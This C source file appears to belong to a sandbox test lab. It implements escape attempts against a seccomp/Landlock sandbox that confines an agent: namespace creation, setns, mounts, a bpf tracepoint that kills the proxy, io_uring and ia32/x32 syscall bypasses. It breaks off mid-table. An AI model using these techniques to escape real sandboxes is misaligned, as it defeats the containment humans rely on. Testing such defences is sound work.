/* escape.c - B6, escape extras: namespaces, mounts, bpf, io_uring, other
 * syscall entry points, inherited fds. Each primitive, when it works, is
 * turned into something a witness sees (the marker at a sink, a signal the
 * victim counts, the proxy's death) where one exists. Where none exists (a
 * new user namespace, a private mount, a loaded bpf program with nothing
 * outside to act on) the attack holds the primitive and asks the lab to
 * look at it from outside ("@parity inspect", writing-attacks.md). */
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <liburing.h>

#include "attack.h"
#include "escape_fds.h"
#include "pod_procs.h"

/* No pause after a signal is sent: see the comment at the top of
 * signal.c (the victims' drain, the proxy's post-run probe). */

/* Wait for a child, bounded; returns its status or -1. */
static int wait_child(struct attack_log *log, pid_t pid, int ms)
{
	int st = 0, err = 0;
	pid_t w = 0;

	for (int i = 0; i < ms / 10 && w == 0; i++) {
		w = waitpid(pid, &st, __WALL | WNOHANG);
		err = errno;
		if (w == 0) {
			struct timespec ts = {.tv_nsec = 10 * 1000 * 1000};
			nanosleep(&ts, NULL);
		}
	}
	attack_step(log, "wait4", w, err, "%d (%d ms bound): status 0x%x", (int)pid, ms, st);
	if (w == 0) {
		kill(pid, SIGKILL);
		waitpid(pid, &st, __WALL);
		return -1;
	}
	return w > 0 ? st : -1;
}

/* ---- E01: user and network namespaces ---- */

static const char *const NO_WITNESS =
    "primitive held; no network witness sees it (no egress from a fresh netns): "
    "asked the lab to inspect it from outside";

static int e01_unshare(const struct attack_env *env, struct attack_log *log)
{
	int r = unshare(CLONE_NEWUSER);
	int err = errno;

	attack_step(log, "unshare", r, err, "CLONE_NEWUSER");
	if (r < 0)
		return CLAIM_BLOCKED;
	r = unshare(CLONE_NEWNET);
	err = errno;
	attack_step(log, "unshare", r, err, "CLONE_NEWNET (as root of the new user namespace)");
	if (r < 0)
		return CLAIM_UNSURE;
	pod_marker_tcp(env, log, env->sink_v4, 443, "E01");
	attack_note(log, "%s", NO_WITNESS);
	attack_request_inspect(log);
	return CLAIM_ESCAPED;
}

static int e01_clone(const struct attack_env *env, struct attack_log *log)
{
	long pid = syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNET | SIGCHLD, NULL, NULL, NULL, 0);
	int err = errno, st;

	if (pid == 0) {
		/* The child: in the new namespaces. */
		int sent;
		attack_note(log, "child %d: in the new user and network namespaces", (int)getpid());
		sent = pod_marker_tcp(env, log, env->sink_v4, 443, "E01.clone") == CLAIM_ESCAPED;
		attack_request_inspect(log);
		_exit(sent ? 0 : 3);
	}
	attack_step(log, "clone", pid, err,
		    "CLONE_NEWUSER|CLONE_NEWNET|SIGCHLD (clone3 is ENOSYS "
		    "in the filters, clone's flags are inspected)");
	if (pid < 0)
		return CLAIM_BLOCKED;
	st = wait_child(log, (pid_t)pid, 3000);
	attack_note(log, "child %s; %s", st == 0 ? "sent the marker" : "had no way out",
		    NO_WITNESS);
	return CLAIM_ESCAPED;
}

/* ---- E03: setns into the supervisor's netns ---- */

static int e03_setns(const struct attack_env *env, struct attack_log *log)
{
	struct pod_view v;
	const struct pod_proc *proxy;
	pid_t targets[3];
	const char *what[3] = {"the supervisor", "the proxy", "the signal victim"};
	struct stat mine, theirs;
	char path[64];
	int fd = -1, r, err;

	if (pod_scan(log, &v) < 0)
		return CLAIM_UNSURE;
	if (v.host_proc)
		attack_note(log,
			    "/proc is not the pod's: /proc/%d is another process than "
			    "PARITY_SUPERVISOR_PID %d; using /proc/%d",
			    (int)env->supervisor_pid, (int)env->supervisor_pid,
			    pod_get(&v, env->supervisor_pid)
				? (int)pod_get(&v, env->supervisor_pid)->proc_pid
				: -1);
	proxy = pod_find_proxy(env, &v, log);
	targets[0] = env->supervisor_pid;
	targets[1] = proxy ? proxy->pid : 0;
	targets[2] = env->victim_pid;
	r = stat("/proc/self/ns/net", &mine);
	err = errno;
	attack_step(log, "stat", r, err, "/proc/self/ns/net: inode %lu", r == 0 ? mine.st_ino : 0);
	for (int i = 0; i < 3 && fd < 0; i++) {
		if (targets[i] <= 0 || pod_path(&v, targets[i], "ns/net", path, sizeof(path)) < 0)
			continue;
		fd = open(path, O_RDONLY | O_CLOEXEC);
		err = errno;
		attack_step(log, "open", fd, err, "%s (%s; ptrace read access needed)", path,
			    what[i]);
	}
	if (fd < 0) {
		/* Which layer refuses setns itself? Try it with our own netns. */
		fd = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
		r = setns(fd, CLONE_NEWNET);
		err = errno;
		attack_step(log, "setns", r, err,
			    "our own netns (fd %d), CLONE_NEWNET: is setns "
			    "itself refused?",
			    fd);
		if (fd >= 0)
			close(fd);
		return CLAIM_BLOCKED;
	}
	r = fstat(fd, &theirs);
	attack_note(log, "their netns inode %lu, ours %lu: %s", r == 0 ? theirs.st_ino : 0,
		    mine.st_ino,
		    r == 0 && theirs.st_ino == mine.st_ino ? "the same netns" : "another netns");
	r = setns(fd, CLONE_NEWNET);
	err = errno;
	attack_step(log, "setns", r, err, "CLONE_NEWNET");
	close(fd);
	if (r < 0)
		return CLAIM_BLOCKED;
	return pod_marker_tcp(env, log, env->sink_v4, 443, "E03");
}

/* ---- E04: mount ---- */

static int e04_dir(struct attack_log *log, char *dir, size_t len)
{
	char *d;
	int err;

	snprintf(dir, len, "/tmp/parity-e04-XXXXXX");
	d = mkdtemp(dir);
	err = errno;
	attack_step(log, "mkdir", d ? 0 : -1, err, "%s (a mount point we may write)", dir);
	return d ? 0 : -1;
}

static void e04_cleanup(struct attack_log *log, const char *dir, bool mounted)
{
	int r, err;

	if (mounted) {
		r = umount2(dir, MNT_DETACH);
		err = errno;
		attack_step(log, "umount2", r, err, "%s, MNT_DETACH", dir);
	}
	r = rmdir(dir);
	err = errno;
	attack_step(log, "rmdir", r, err, "%s", dir);
}

static const char *const MOUNT_NO_WITNESS =
    "mount primitive held; no process outside reads files during the run, so nothing "
    "outside sees it: the lab has no witness for mounts";

static int e04_mount(const struct attack_env *env, struct attack_log *log)
{
	char dir[64];
	int r, err;

	if (e04_dir(log, dir, sizeof(dir)) < 0)
		return CLAIM_UNSURE;
	r = mount("tmpfs", dir, "tmpfs", MS_NOSUID | MS_NODEV, "size=64k");
	err = errno;
	attack_step(log, "mount", r, err, "tmpfs on %s", dir);
	if (r == 0) {
		attack_note(log, "%s", MOUNT_NO_WITNESS);
		attack_request_inspect(log);
	}
	e04_cleanup(log, dir, r == 0);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int e04_fsopen(const struct attack_env *env, struct attack_log *log)
{
	char dir[64];
	int fs, mfd = -1, r, err, claim = CLAIM_BLOCKED;

	if (e04_dir(log, dir, sizeof(dir)) < 0)
		return CLAIM_UNSURE;
	fs = fsopen("tmpfs", FSOPEN_CLOEXEC);
	err = errno;
	attack_step(log, "fsopen", fs, err, "\"tmpfs\", FSOPEN_CLOEXEC");
	if (fs < 0)
		goto out;
	r = fsconfig(fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0);
	err = errno;
	attack_step(log, "fsconfig", r, err, "FSCONFIG_CMD_CREATE");
	if (r < 0)
		goto out;
	mfd = fsmount(fs, FSMOUNT_CLOEXEC, 0);
	err = errno;
	attack_step(log, "fsmount", mfd, err, "FSMOUNT_CLOEXEC: a detached mount");
	if (mfd < 0)
		goto out;
	r = move_mount(mfd, "", AT_FDCWD, dir, MOVE_MOUNT_F_EMPTY_PATH);
	err = errno;
	attack_step(log, "move_mount", r, err, "onto %s", dir);
	if (r == 0) {
		attack_note(log, "%s", MOUNT_NO_WITNESS);
		attack_request_inspect(log);
		claim = CLAIM_ESCAPED;
	}
out:
	if (mfd >= 0)
		close(mfd);
	if (fs >= 0)
		close(fs);
	e04_cleanup(log, dir, claim == CLAIM_ESCAPED);
	return claim;
}

/* ---- E05: bpf ---- */

static long sys_bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

#define INSN(c, d, s, o, i)                                                                        \
	((struct bpf_insn){.code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (i)})

static int prog_load(struct attack_log *log, enum bpf_prog_type type, const struct bpf_insn *insns,
		     unsigned n, const char *what)
{
	static char vlog[4096];
	union bpf_attr a;
	long fd;
	int err;

	memset(&a, 0, sizeof(a));
	a.prog_type = type;
	a.insns = (uint64_t)(uintptr_t)insns;
	a.insn_cnt = n;
	a.license = (uint64_t)(uintptr_t) "GPL";
	a.log_buf = (uint64_t)(uintptr_t)vlog;
	a.log_size = sizeof(vlog);
	a.log_level = 1;
	vlog[0] = 0;
	fd = sys_bpf(BPF_PROG_LOAD, &a);
	err = errno;
	attack_step(log, "bpf", fd, err, "BPF_PROG_LOAD %s, %u insns", what, n);
	if (fd < 0 && vlog[0])
		attack_note(log, "verifier: %.400s", vlog);
	return (int)fd;
}

static int e05_socket_filter(const struct attack_env *env, struct attack_log *log)
{
	/* r0 = 0 (drop everything); exit */
	const struct bpf_insn prog[] = {
	    INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0),
	    INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
	};
	int pfd = prog_load(log, BPF_PROG_TYPE_SOCKET_FILTER, prog, 2, "SOCKET_FILTER (r0 = 0)");
	int s, r, err;

	if (pfd < 0)
		return CLAIM_BLOCKED;
	s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	err = errno;
	attack_step(log, "socket", s, err, "AF_UNIX, SOCK_DGRAM (to attach it to)");
	if (s >= 0) {
		r = setsockopt(s, SOL_SOCKET, SO_ATTACH_BPF, &pfd, sizeof(pfd));
		err = errno;
		attack_step(log, "setsockopt", r, err, "SO_ATTACH_BPF");
		close(s);
	}
	attack_note(log, "bpf primitive held; a socket filter acts on our own sockets only: "
			 "asked the lab to inspect it from outside");
	attack_request_inspect(log);
	close(pfd);
	return CLAIM_ESCAPED;
}

static int e05_map(const struct attack_env *env, struct attack_log *log)
{
	union bpf_attr a;
	long fd;
	int err;

	memset(&a, 0, sizeof(a));
	a.map_type = BPF_MAP_TYPE_ARRAY;
	a.key_size = 4;
	a.value_size = 8;
	a.max_entries = 1;
	fd = sys_bpf(BPF_MAP_CREATE, &a);
	err = errno;
	attack_step(log, "bpf", fd, err, "BPF_MAP_CREATE ARRAY 1 x 8 bytes");
	if (fd < 0)
		return CLAIM_BLOCKED;
	attack_note(log, "bpf map held: asked the lab to inspect it from outside");
	attack_request_inspect(log);
	close((int)fd);
	return CLAIM_ESCAPED;
}

/* Hold the link until the proxy has run: ask it something it must refuse
 * and wait (bounded) for its answer or for the connection to drop. Either
 * way it has entered syscalls since it was woken. */
static void await_proxy(struct attack_log *log, int fd)
{
	static const char req[] = "GET / HTTP/1.1\r\n\r\n";
	struct pollfd p = {.fd = fd, .events = POLLIN};
	ssize_t n = send(fd, req, sizeof(req) - 1, MSG_NOSIGNAL);
	char b;
	int r, err = errno;

	attack_step(log, "send", n, err, "a request the proxy refuses (405)");
	if (n < 0)
		return;
	r = poll(&p, 1, 2000);
	err = errno;
	n = r > 0 ? recv(fd, &b, 1, MSG_DONTWAIT) : -1;
	attack_step(log, "recv", n, r > 0 ? errno : err, "the proxy's answer (2 s bound): %s",
		    n == 1   ? "it answered"
		    : n == 0 ? "connection closed"
			     : "none");
}

/* A raw tracepoint program on sys_enter that sends SIGUSR1 to the current
 * task when it is the proxy (pid `target` in the PID namespace dev:ino):
 * bpf_send_signal from inside any syscall the proxy makes. */
static int e05_signal(const struct attack_env *env, struct attack_log *log)
{
	struct pod_view v;
	const struct pod_proc *proxy;
	struct stat ns;
	union bpf_attr a;
	long lfd;
	int pfd, r, err;

	if (pod_scan(log, &v) < 0 || !(proxy = pod_find_proxy(env, &v, log)))
		return CLAIM_UNSURE;
	r = stat("/proc/self/ns/pid", &ns);
	err = errno;
	attack_step(log, "stat", r, err, "/proc/self/ns/pid: dev 0x%lx ino %lu",
		    r == 0 ? (unsigned long)ns.st_dev : 0, r == 0 ? (unsigned long)ns.st_ino : 0);
	if (r < 0)
		return CLAIM_UNSURE;
	{
		const uint64_t dev = ns.st_dev, ino = ns.st_ino;
		const struct bpf_insn prog[] = {
		    INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_1, 0, 0, (int32_t)(uint32_t)dev),
		    INSN(0, 0, 0, 0, (int32_t)(uint32_t)(dev >> 32)),
		    INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_2, 0, 0, (int32_t)(uint32_t)ino),
		    INSN(0, 0, 0, 0, (int32_t)(uint32_t)(ino >> 32)),
		    INSN(BPF_ALU64 | BPF_MOV | BPF_X, BPF_REG_3, BPF_REG_10, 0, 0),
		    INSN(BPF_ALU64 | BPF_ADD | BPF_K, BPF_REG_3, 0, 0, -8),
		    INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_4, 0, 0, 8),
		    INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_get_ns_current_pid_tgid),
		    INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_0, 0, 4, 0),
		    /* struct bpf_pidns_info { u32 pid; u32 tgid; } at r10 - 8 */
		    INSN(BPF_LDX | BPF_MEM | BPF_W, BPF_REG_1, BPF_REG_10, -4, 0),
		    INSN(BPF_JMP | BPF_JNE | BPF_K, BPF_REG_1, 0, 2, (int32_t)proxy->pid),
		    INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_1, 0, 0, SIGUSR1),
		    INSN(BPF_JMP | BPF_CALL, 0, 0, 0, BPF_FUNC_send_signal),
		    INSN(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0),
		    INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
		};
		pfd = prog_load(log, BPF_PROG_TYPE_RAW_TRACEPOINT, prog,
				(unsigned)(sizeof(prog) / sizeof(prog[0])),
				"RAW_TRACEPOINT: bpf_send_signal(SIGUSR1) when the proxy enters a "
				"syscall");
	}
	if (pfd < 0)
		return CLAIM_BLOCKED;
	memset(&a, 0, sizeof(a));
	a.raw_tracepoint.name = (uint64_t)(uintptr_t) "sys_enter";
	a.raw_tracepoint.prog_fd = (uint32_t)pfd;
	lfd = sys_bpf(BPF_RAW_TRACEPOINT_OPEN, &a);
	err = errno;
	attack_step(log, "bpf", lfd, err, "BPF_RAW_TRACEPOINT_OPEN sys_enter");
	if (lfd >= 0) {
		/* Wake the proxy: its next syscall is its last. */
		struct sockaddr_storage ss;
		socklen_t len = attack_sockaddr(env->proxy_host, env->proxy_port, &ss);
		int fd = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
		err = errno;
		attack_step(log, "socket", fd, err, "SOCK_STREAM, to wake the proxy");
		if (fd >= 0) {
			r = attack_connect_timeout(fd, (struct sockaddr *)&ss, len, 1000);
			err = errno;
			attack_step(log, "connect", r, err, "%s:%u (the proxy, pid %d)",
				    env->proxy_host, env->proxy_port, (int)proxy->pid);
			if (r == 0)
				await_proxy(log, fd);
			close(fd);
		}
		/* Only now: the program goes with the link, and the proxy has
		 * either made its next syscall or stopped answering. */
		close((int)lfd);
	}
	close(pfd);
	return lfd >= 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- E06: io_uring as a way around seccomp ---- */

static int e06_io_uring(const struct attack_env *env, struct attack_log *log)
{
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	struct __kernel_timespec ts = {.tv_sec = 2};
	struct sockaddr_storage ss;
	socklen_t len = attack_sockaddr(env->sink_v4, 9999, &ss);
	char buf[256];
	struct iovec iov = {.iov_base = buf};
	struct msghdr mh = {.msg_name = &ss, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1};
	int r, fd = -1, claim = CLAIM_BLOCKED;

	iov.iov_len = (size_t)attack_marker_payload(env, "E06", buf, sizeof(buf));
	r = io_uring_queue_init(4, &ring, 0);
	attack_step(log, "io_uring_setup", r, -r, "4 entries (liburing io_uring_queue_init)");
	if (r < 0)
		return CLAIM_BLOCKED;
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_socket(sqe, AF_INET, SOCK_DGRAM, 0, 0);
	r = io_uring_submit(&ring);
	if (r >= 0 && (r = io_uring_wait_cqe_timeout(&ring, &cqe, &ts)) == 0) {
		r = cqe->res;
		io_uring_cqe_seen(&ring, cqe);
	}
	attack_step(log, "IORING_OP_SOCKET", r, -r,
		    "AF_INET, SOCK_DGRAM: the socket() rule never sees it");
	if (r < 0)
		goto out;
	fd = r;
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_sendmsg(sqe, fd, &mh, 0);
	r = io_uring_submit(&ring);
	if (r >= 0 && (r = io_uring_wait_cqe_timeout(&ring, &cqe, &ts)) == 0) {
		r = cqe->res;
		io_uring_cqe_seen(&ring, cqe);
	}
	attack_step(log, "IORING_OP_SENDMSG", r, -r, "marker to %s:9999/udp", env->sink_v4);
	if (r > 0)
		claim = CLAIM_ESCAPED;
	close(fd);
out:
	io_uring_queue_exit(&ring);
	return claim;
}

/* ---- E07: other syscall entry points ---- */

#define IA32_PTRACE 26
#define IA32_PIDFD_SEND_SIGNAL 424
#define IA32_PIDFD_OPEN 434
#define X32_BIT 0x40000000L
#define PTRACE_ATTACH_NR 16
#define PTRACE_DETACH_NR 17

/* The 32-bit entry point from a 64-bit process: returns -errno. Pointers
 * would have to be below 4 GiB; none is passed here. */
static long ia32(long nr, long a1, long a2, long a3, long a4)
{
	long ret;
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a1), "c"(a2), "d"(a3), "S"(a4)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	return ret;
}

static int e07_ia32_pidfd(const struct attack_env *env, struct attack_log *log)
{
	long pfd, r;

	attack_note(log, "int $0x80 (ia32): the first call is where a kill-on-bad-arch filter "
			 "ends the process");
	pfd = ia32(IA32_PIDFD_OPEN, env->victim_pid, 0, 0, 0);
	attack_step(log, "int80 pidfd_open", pfd < 0 ? -1 : pfd, (int)-pfd, "i386 nr %d, pid %d",
		    IA32_PIDFD_OPEN, (int)env->victim_pid);
	if (pfd < 0)
		return CLAIM_BLOCKED;
	r = ia32(IA32_PIDFD_SEND_SIGNAL, pfd, SIGUSR1, 0, 0);
	attack_step(log, "int80 pidfd_send_signal", r < 0 ? -1 : r, (int)-r,
		    "i386 nr %d, SIGUSR1 to the victim", IA32_PIDFD_SEND_SIGNAL);
	close((int)pfd);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int e07_ia32_ptrace(const struct attack_env *env, struct attack_log *log)
{
	long r;
	int st = 0, err = 0;
	pid_t w = 0;

	r = ia32(IA32_PTRACE, PTRACE_ATTACH_NR, env->victim_pid, 0, 0);
	attack_step(log, "int80 ptrace", r < 0 ? -1 : r, (int)-r, "i386 nr %d, PTRACE_ATTACH, %d",
		    IA32_PTRACE, (int)env->victim_pid);
	if (r < 0)
		return CLAIM_BLOCKED;
	for (int i = 0; i < 200 && w == 0; i++) {
		w = waitpid(env->victim_pid, &st, __WALL | WNOHANG);
		err = errno;
		if (w == 0) {
			struct timespec ts = {.tv_nsec = 10 * 1000 * 1000};
			nanosleep(&ts, NULL);
		}
	}
	attack_step(log, "wait4", w, err, "%d, __WALL (2 s bound): status 0x%x",
		    (int)env->victim_pid, st);
	r = ia32(IA32_PTRACE, PTRACE_DETACH_NR, env->victim_pid, 0, SIGUSR1);
	attack_step(log, "int80 ptrace", r < 0 ? -1 : r, (int)-r,
		    "PTRACE_DETACH, %d, data SIGUSR1 (injected)", (int)env->victim_pid);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_UNSURE;
}

static int e07_x32_pidfd(const struct attack_env *env, struct attack_log *log)
{
	long pfd, r;
	int err;

	pfd = syscall(X32_BIT | SYS_pidfd_open, env->victim_pid, 0);
	err = errno;
	attack_step(log, "x32 pidfd_open", pfd, err, "nr 0x40000000|%d, pid %d", SYS_pidfd_open,
		    (int)env->victim_pid);
	if (pfd < 0)
		return CLAIM_BLOCKED;
	r = syscall(X32_BIT | SYS_pidfd_send_signal, pfd, SIGUSR1, NULL, 0);
	err = errno;
	attack_step(log, "x32 pidfd_send_signal", r, err, "SIGUSR1 to the victim");
	close((int)pfd);
	return r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

#define SECCOMP_BASE "seccomp base filter: EPERM"
#define NO_WITNESS_EXP " [no witness: INCONCLUSIVE until the lab witnesses primitives]"

/* The table keeps the layout of attacks/tcp.c. */
/* clang-format off */
const struct attack attacks_escape[] = {
	{
		.id = "E01",
		.family = FAM_ESCAPE,
		.title = "unshare() a user namespace, then a network namespace",
		.tries = "Root of a new user namespace holds every capability over a new netns: "
			 "nf_tables and raw-socket attack surface, but no egress. The primitive "
			 "is logged; a fresh netns has no route, so nothing outside sees it.",
		.syscalls = "unshare(CLONE_NEWUSER); unshare(CLONE_NEWNET); connect(sink:443)",
		.needs = {.probe = {"namespaces.user"}},
		.refs = "attack-catalog.md B6 E01; reyn PR #3056; cade#23",
		.expect = {SECCOMP_BASE " (unshare(CLONE_NEWUSER))" NO_WITNESS_EXP,
			   SECCOMP_BASE " (Landlock does not restrict unshare)" NO_WITNESS_EXP,
			   SECCOMP_BASE, SECCOMP_BASE},
		.run = e01_unshare,
	},
	{
		.id = "E01.clone",
		.family = FAM_ESCAPE,
		.title = "clone() into new user and network namespaces",
		.tries = "The same through clone(CLONE_NEWUSER|CLONE_NEWNET): a filter on unshare "
			 "alone would miss it (clone3 is ENOSYS so that clone's flags can be "
			 "inspected).",
		.syscalls = "clone(CLONE_NEWUSER|CLONE_NEWNET|SIGCHLD); child: connect(sink:443)",
		.needs = {.probe = {"namespaces.user"}},
		.refs = "attack-catalog.md B6 E01; docs/seccomp.md",
		.expect = {SECCOMP_BASE " (clone(CLONE_NEWUSER))" NO_WITNESS_EXP,
			   SECCOMP_BASE " (clone(CLONE_NEWUSER))" NO_WITNESS_EXP, SECCOMP_BASE,
			   SECCOMP_BASE},
		.run = e01_clone,
	},
	{
		.id = "E03",
		.family = FAM_ESCAPE,
		.title = "setns() into the supervisor's network namespace",
		.tries = "Open /proc/<supervisor>/ns/net (then the proxy's, the victim's), setns "
			 "into it and send the marker straight to the sink: the way out of the "
			 "sandbox netns in namespace mode.",
		.syscalls = "scan /proc; open(/proc/<sup>/ns/net); setns(CLONE_NEWNET); "
			    "connect(sink:443); send",
		.refs = "attack-catalog.md B6 E03; landlock.rst (nsfs, ptrace rules on "
			"/proc/<pid>/ns)",
		.expect =
			{"ns/net unreadable (root supervisor, ptrace check); seccomp setns; "
			 "no CAP_SYS_ADMIN",
			 "ns/net unreadable (Landlock ptrace restriction); seccomp setns; Landlock "
			 "connect_tcp",
			 SECCOMP_BASE, SECCOMP_BASE},
		.run = e03_setns,
	},
	{
		.id = "E04",
		.family = FAM_ESCAPE,
		.title = "mount() a tmpfs",
		.tries = "Change the mount topology the supervisor shares (no mount namespace of "
			 "the agent's own). Nothing outside reads files during a run, so the "
			 "mount is logged, not witnessed.",
		.syscalls = "mkdtemp(/tmp/parity-e04-*); mount(tmpfs); umount2; rmdir",
		.refs = "attack-catalog.md B6 E04; landlock.rst 'Filesystem topology modification'",
		.expect = {SECCOMP_BASE " (mount); no CAP_SYS_ADMIN" NO_WITNESS_EXP,
			   SECCOMP_BASE
			   " (mount); no CAP_SYS_ADMIN; Landlock topology" NO_WITNESS_EXP,
			   SECCOMP_BASE, SECCOMP_BASE},
		.run = e04_mount,
	},
	{
		.id = "E04.fsopen",
		.family = FAM_ESCAPE,
		.title = "The new mount API: fsopen, fsconfig, fsmount, move_mount",
		.tries = "The same through the fd-based mount API, which a filter on mount() "
			 "alone would miss.",
		.syscalls = "fsopen(tmpfs); fsconfig(CMD_CREATE); fsmount; move_mount(/tmp/...)",
		.needs = {.probe = {"entry_points.fsopen"}},
		.refs = "attack-catalog.md B6 E04; docs/seccomp.md",
		.expect = {SECCOMP_BASE " (fsopen)" NO_WITNESS_EXP,
			   SECCOMP_BASE " (fsopen)" NO_WITNESS_EXP, SECCOMP_BASE, SECCOMP_BASE},
		.run = e04_fsopen,
	},
	{
		.id = "E05",
		.family = FAM_ESCAPE,
		.title = "bpf(): load and attach a trivial socket filter",
		.tries = "BPF_PROG_LOAD of a socket filter (r0 = 0), attached with SO_ATTACH_BPF: "
			 "the verifier and JIT as attack surface. It acts on our own socket only.",
		.syscalls = "bpf(BPF_PROG_LOAD, SOCKET_FILTER); setsockopt(SO_ATTACH_BPF)",
		.needs = {.probe = {"entry_points.bpf_socket_filter"}},
		.refs = "attack-catalog.md B6 E05; kernel.unprivileged_bpf_disabled",
		.expect = {SECCOMP_BASE " (bpf); unprivileged_bpf_disabled" NO_WITNESS_EXP,
			   SECCOMP_BASE " (bpf); unprivileged_bpf_disabled" NO_WITNESS_EXP,
			   SECCOMP_BASE, SECCOMP_BASE},
		.run = e05_socket_filter,
	},
	{
		.id = "E05.map",
		.family = FAM_ESCAPE,
		.title = "bpf(): create a map",
		.tries = "BPF_MAP_CREATE, the other half of unprivileged bpf.",
		.syscalls = "bpf(BPF_MAP_CREATE, ARRAY)",
		.needs = {.probe = {"entry_points.bpf_socket_filter"}},
		.refs = "attack-catalog.md B6 E05",
		.expect = {SECCOMP_BASE " (bpf)" NO_WITNESS_EXP,
			   SECCOMP_BASE " (bpf)" NO_WITNESS_EXP, SECCOMP_BASE, SECCOMP_BASE},
		.run = e05_map,
	},
	{
		.id = "E05.signal",
		.family = FAM_ESCAPE,
		.title = "bpf(): a raw tracepoint that kills the proxy with bpf_send_signal",
		.tries =
			"A raw tracepoint program on sys_enter sends SIGUSR1 to the proxy (matched "
			"by pid in our PID namespace) the next time it enters a syscall; a "
			"connection to the proxy wakes it. Signal permission checks do not apply "
			"to bpf_send_signal.",
		.syscalls = "bpf(BPF_PROG_LOAD, RAW_TRACEPOINT); bpf(BPF_RAW_TRACEPOINT_OPEN, "
			    "sys_enter); connect(proxy)",
		.needs = {.probe = {"entry_points.bpf_socket_filter"}},
		.refs = "attack-catalog.md B6 E05; bpf-helpers(7) bpf_send_signal",
		.expect = {SECCOMP_BASE " (bpf); CAP_BPF/CAP_PERFMON",
			   SECCOMP_BASE " (bpf); CAP_BPF/CAP_PERFMON", SECCOMP_BASE, SECCOMP_BASE},
		.run = e05_signal,
	},
	{
		.id = "E06",
		.family = FAM_ESCAPE,
		.title = "io_uring: a UDP socket and a datagram the socket() rule never sees",
		.tries = "io_uring_setup, then IORING_OP_SOCKET(AF_INET, SOCK_DGRAM) and "
			 "IORING_OP_SENDMSG of the marker to the sink: io_uring operations bypass "
			 "syscall filters, so the platform's socket(SOCK_DGRAM) rule is moot if "
			 "io_uring is reachable.",
		.syscalls = "io_uring_setup; IORING_OP_SOCKET(AF_INET, SOCK_DGRAM); "
			    "IORING_OP_SENDMSG(sink:9999)",
		.needs = {.probe = {"entry_points.io_uring", "entry_points.io_uring_socket"}},
		.refs = "attack-catalog.md §0.6, B6 E06; moby#46762; containerd#9320",
		.expect = {SECCOMP_BASE " (io_uring_setup; nftables behind it)",
			   SECCOMP_BASE " (io_uring_setup)", SECCOMP_BASE " (io_uring_setup)",
			   "io_uring refused"},
		.run = e06_io_uring,
	},
	{
		.id = "E07",
		.family = FAM_ESCAPE,
		.title = "ia32 int $0x80: pidfd_open + pidfd_send_signal to the victim",
		.tries = "Blocked syscalls through the 32-bit entry point, whose numbers a "
			 "native-only filter does not know. The reference kills on an "
			 "architecture mismatch (SIGSYS); platform-strict returns EPERM.",
		.syscalls = "int $0x80: pidfd_open(434, victim); pidfd_send_signal(424, SIGUSR1)",
		.needs = {.probe = {"entry_points.ia32"}},
		.refs = "attack-catalog.md B6 E07, B2 U05; docs/seccomp.md (architectures)",
		.expect = {"seccomp bad-arch action: kill (SIGSYS)",
			   "seccomp bad-arch action: kill (SIGSYS)",
			   "seccomp bad-arch action: kill (SIGSYS)",
			   "seccomp non-native arch: EPERM"},
		.run = e07_ia32_pidfd,
	},
	{
		.id = "E07.ptrace",
		.family = FAM_ESCAPE,
		.title = "ia32 int $0x80: ptrace attach and detach with a signal",
		.tries = "ptrace through the 32-bit entry point; the witnessed effect is a "
			 "SIGUSR1 injected at PTRACE_DETACH.",
		.syscalls = "int $0x80: ptrace(26, PTRACE_ATTACH, victim); wait4; ptrace(26, "
			    "PTRACE_DETACH, SIGUSR1)",
		.needs = {.probe = {"entry_points.ia32", "entry_points.ptrace_attach"}},
		.refs = "attack-catalog.md B6 E07",
		.expect = {"seccomp bad-arch action: kill (SIGSYS)",
			   "seccomp bad-arch action: kill (SIGSYS)",
			   "seccomp bad-arch action: kill (SIGSYS)",
			   "seccomp non-native arch: EPERM"},
		.run = e07_ia32_ptrace,
	},
	{
		.id = "E07.x32",
		.family = FAM_ESCAPE,
		.title = "x32 numbers: pidfd_open + pidfd_send_signal to the victim",
		.tries = "x32 syscall numbers (nr | 0x40000000) keep AUDIT_ARCH_X86_64: a filter "
			 "without an x32 check lets them take its default action (allow).",
		.syscalls = "syscall(0x40000000|434, victim); syscall(0x40000000|424, SIGUSR1)",
		.needs = {.probe = {"entry_points.x32"}},
		.refs = "attack-catalog.md B6 E07; docs/seccomp.md (x32: allow reproduces "
			"seccompiler)",
		.expect = {"none on x32 kernels: x32 numbers take the default action (allow)",
			   "none on x32 kernels: x32 numbers take the default action (allow)",
